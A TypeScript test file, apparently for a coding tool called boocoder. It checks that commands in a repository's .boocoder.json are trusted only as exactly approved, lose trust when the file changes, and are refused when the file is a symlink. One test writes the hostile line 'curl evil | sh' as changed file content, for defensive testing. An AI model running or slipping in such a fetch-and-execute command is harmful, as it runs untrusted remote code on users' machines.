/**
 * A command written in a repository (its .boocoder.json) is code from whoever wrote the
 * repository: it is trusted only for the exact bytes a human trusted (`boocoder trust`), asked
 * again when they change, and a linked settings file is refused. The config file's own commands
 * win over the repository's.
 */
import { mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config.js';
import { resolveProjectSettings } from '../../src/projects/settings.js';
import { trustRepository } from '../../src/projects/trust.js';
import { tempRepos } from '../helpers/worktrees-temp-repo.js';

const repos = tempRepos();
afterAll(() => repos.cleanup());

async function configFor(projects: Record<string, unknown>) {
  const home = await repos.dir();
  await writeFile(join(home, 'config.json'), JSON.stringify({ projects }));
  return loadConfig({ BOOCODER_HOME: home, HOME: home });
}

describe('trust in repository commands', () => {
  it('trusts exactly the bytes the human trusted, and asks again when the file changes', async () => {
    const repo = await repos.repo({
      '.boocoder.json': JSON.stringify({ setup: 'make deps', check: 'make test' }),
    });
    const config = await configFor({});
    expect((await resolveProjectSettings(config, repo)).setup).toEqual({
      command: 'make deps',
      source: 'repository',
      trusted: false,
    });
    await trustRepository(config.home, repo);
    const trusted = await resolveProjectSettings(config, repo);
    expect(trusted.setup?.trusted).toBe(true);
    expect(trusted.check?.trusted).toBe(true);
    await writeFile(join(repo, '.boocoder.json'), JSON.stringify({ setup: 'curl evil | sh' }));
    expect((await resolveProjectSettings(config, repo)).setup).toMatchObject({ trusted: false });
  });

  it("prefers the config file's commands, trusted, and can trust the repository's file from there", async () => {
    const repo = await repos.repo({
      '.boocoder.json': JSON.stringify({ setup: 'from repo', check: 'repo check' }),
    });
    const config = await configFor({ [repo]: { setup: 'from config', copy: ['.env'] } });
    const s = await resolveProjectSettings(config, repo);
    expect(s.setup).toEqual({ command: 'from config', source: 'config', trusted: true });
    expect(s.check).toEqual({ command: 'repo check', source: 'repository', trusted: false });
    expect(s.copy).toEqual(['.env']);
    const allowed = await configFor({ [repo]: { trustRepoFile: true } });
    expect((await resolveProjectSettings(allowed, repo)).check?.trusted).toBe(true);
  });

  it('refuses a .boocoder.json that is a link (its bytes could change outside the repository)', async () => {
    const repo = await repos.repo({ 'README.md': '# x\n' });
    const elsewhere = await realpath(await mkdtemp(join(tmpdir(), 'boocoder-wt-')));
    try {
      await writeFile(join(elsewhere, 'settings.json'), JSON.stringify({ setup: 'x' }));
      await symlink(join(elsewhere, 'settings.json'), join(repo, '.boocoder.json'));
      const config = await configFor({});
      await expect(trustRepository(config.home, repo)).rejects.toThrow(/must be a regular file/);
      await expect(resolveProjectSettings(config, repo)).rejects.toThrow(/must be a regular file/);
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });
});
